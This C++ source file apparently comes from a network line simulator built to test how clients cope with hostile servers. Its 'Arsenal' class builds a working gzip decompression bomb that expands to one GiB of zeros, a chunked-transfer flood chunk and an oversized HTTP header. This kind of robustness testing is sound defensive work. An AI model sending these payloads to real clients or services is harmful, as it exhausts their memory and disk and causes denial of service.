// SPDX-License-Identifier: Apache-2.0
#include <zlib.h>

#include <stdexcept>

#include "line_sim/wire.h"

namespace taara::line_sim {
namespace {

constexpr std::size_t kPiece = std::size_t{1} << 20U;
constexpr unsigned kPieces = 1024;

// One MiB of zeros, flushed fully: the result can be repeated, as it refers to nothing before it.
std::string deflated_piece() {
  z_stream stream{};
  if (deflateInit2(&stream, Z_BEST_COMPRESSION, Z_DEFLATED, -MAX_WBITS, 9, Z_DEFAULT_STRATEGY) != Z_OK) {
    throw std::runtime_error("zlib refuses to start");
  }
  std::string zeros(kPiece, '\0');
  std::string out(kPiece, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
  stream.avail_in = static_cast<uInt>(zeros.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  (void)deflate(&stream, Z_FULL_FLUSH);
  out.resize(stream.total_out);
  (void)deflateEnd(&stream);
  return out;
}

void append_little_endian(std::string& out, std::uint32_t value) {
  for (unsigned shift = 0; shift < 32; shift += 8) out += static_cast<char>((value >> shift) & 0xffU);
}

std::string make_bomb() {
  using namespace std::string_literals;
  const std::string piece = deflated_piece();
  const std::string zeros(kPiece, '\0');
  const uLong crc_of_piece = crc32(0, reinterpret_cast<const Bytef*>(zeros.data()), static_cast<uInt>(zeros.size()));
  uLong crc = crc32(0, nullptr, 0);
  std::string bomb = "\x1f\x8b\x08\0\0\0\0\0\0\xff"s;
  for (unsigned i = 0; i < kPieces; ++i) {
    bomb += piece;
    crc = crc32_combine(crc, crc_of_piece, static_cast<z_off_t>(kPiece));
  }
  bomb += "\x03\0"s;  // an empty last block
  append_little_endian(bomb, static_cast<std::uint32_t>(crc));
  append_little_endian(bomb, static_cast<std::uint32_t>(kPieces * kPiece));
  return bomb;
}

}  // namespace

std::shared_ptr<const std::string> Arsenal::gzip_bomb() {
  if (!bomb_) bomb_ = std::make_shared<const std::string>(make_bomb());
  return bomb_;
}

std::shared_ptr<const std::string> Arsenal::flood_chunk() {
  if (!chunk_) chunk_ = std::make_shared<const std::string>("10000\r\n" + std::string(0x10000, ' ') + "\r\n");
  return chunk_;
}

std::shared_ptr<const std::string> Arsenal::flood_header() {
  if (!header_) header_ = std::make_shared<const std::string>("X-Flood: " + std::string(1013, 'f') + "\r\n");
  return header_;
}

}  // namespace taara::line_sim
